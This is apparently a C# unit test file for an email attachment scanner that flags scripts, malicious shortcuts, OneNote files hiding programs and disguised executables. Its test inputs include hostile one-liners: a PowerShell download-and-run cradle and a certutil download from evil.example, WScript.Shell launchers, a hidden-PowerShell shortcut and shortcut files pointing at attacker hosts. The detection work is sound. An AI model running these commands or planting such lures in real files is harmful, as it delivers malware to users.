using System.Text;
using Deeplia.Mail.Attachments.Files;
using Deeplia.Tests.Mail.Attachments.Making;

namespace Deeplia.Tests.Mail.Attachments.Programs;

public sealed class ProgramFilesTests
{
    [Theory]
    [InlineData("a.vbs", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"", FileSign.Script, FileSign.ScriptCalls)]
    [InlineData("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://evil.example')", FileSign.Script, FileSign.ScriptCalls)]
    [InlineData("a.bat", "@echo off\r\ncertutil -urlcache -f https://evil.example/a a.exe", FileSign.Script, FileSign.ScriptCalls)]
    [InlineData("a.hta", "<html><script language=vbscript>CreateObject(\"WScript.Shell\")</script></html>", FileSign.Script, FileSign.ScriptCalls)]
    [InlineData("a.jse", "#@~^AAAAAA==", FileSign.Script, FileSign.ScriptCalls)]
    [InlineData("sum.js", "export function sum(a, b) { return a + b; }", FileSign.Script)]
    [InlineData("build.bat", "msbuild shop.sln /p:Configuration=Release", FileSign.Script)]
    public void A_script_is_seen_and_what_it_calls(string name, string text, params FileSign[] signs) =>
        Assert.Equal(signs, Look.Signs(name, Encoding.UTF8.GetBytes(text)));

    [Theory]
    [InlineData("fix.patch", "diff --git a/run.js b/run.js\n+var s = new ActiveXObject(\"WScript.Shell\")")]
    [InlineData("notes.txt", "Run powershell and type: cmd.exe")]
    [InlineData("tool.py", "import os; os.system('ls')")]
    [InlineData("run.sh", "#!/bin/sh\nls")]
    public void What_programmers_send_is_no_script(string name, string text) => Assert.Empty(Look.Signs(name, Encoding.UTF8.GetBytes(text)));

    [Fact]
    public void A_shortcut_tells_what_it_starts()
    {
        var signs = Look.At("invoice.lnk", FileMaker.Shortcut(@"..\..\Windows\System32\cmd.exe", "/c powershell -w hidden")).Signs;
        Assert.Equal([FileSign.Shortcut, FileSign.ScriptCalls], signs.Select(s => s.Sign));
    }

    [Theory]
    [InlineData("a.url", "[InternetShortcut]\r\nURL=https://shop.example/\r\n", FileSign.WebShortcut, "shop.example")]
    [InlineData("a.url", "[InternetShortcut]\r\nURL=file://192.0.2.7@80/share/a.exe\r\n", FileSign.Shortcut, "192.0.2.7")]
    [InlineData("a.url", "[InternetShortcut]\r\nURL=https://evil.example/a.hta?x=1\r\n", FileSign.Shortcut, "evil.example")]
    [InlineData("a.library-ms", "<?xml version=\"1.0\"?><libraryDescription><url>\\\\evil.example\\d</url></libraryDescription>", FileSign.Shortcut, "evil.example")]
    public void A_file_that_names_a_place_is_seen(string name, string text, FileSign sign, string detail)
    {
        var seen = Assert.Single(Look.At(name, Encoding.UTF8.GetBytes(text)).Signs);
        Assert.Equal((sign, detail), (seen.Sign, seen.Detail));
    }

    [Fact]
    public void A_note_that_hides_a_program_is_seen() => Assert.Equal(
        [FileSign.NoteFile], Look.Signs("a.one", FileMaker.Note([0x89, (byte)'P', (byte)'N', (byte)'G', 1], FileMaker.Program)));

    [Fact]
    public void A_note_that_hides_a_script_is_seen() => Assert.Equal([FileSign.NoteFile], Look.Signs("a.one", FileMaker.Note(FileMaker.Script)));

    [Fact]
    public void A_note_with_pictures_has_no_signs() =>
        Assert.Empty(Look.Signs("a.one", FileMaker.Note([0x89, (byte)'P', (byte)'N', (byte)'G', 1], PdfPage())));

    [Theory]
    [InlineData("photo.jpg")]
    [InlineData("letter.pdf")]
    public void A_program_under_a_document_s_name_is_seen(string name) =>
        Assert.Equal([FileSign.TypeMismatch, FileSign.Program], Look.Signs(name, FileMaker.Program));

    [Fact]
    public void A_program_of_another_system_is_no_sign() => Assert.Empty(Look.Signs("module.ko", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0]));

    [Theory]
    [InlineData("www.shop.com", "An address as a name")]
    [InlineData("setup.msi", "")]
    public void A_name_alone_makes_no_program(string name, string text) => Assert.Empty(Look.Signs(name, Encoding.UTF8.GetBytes(text)));

    private static byte[] PdfPage() => PdfMaker.Page(["Hello"]);
}
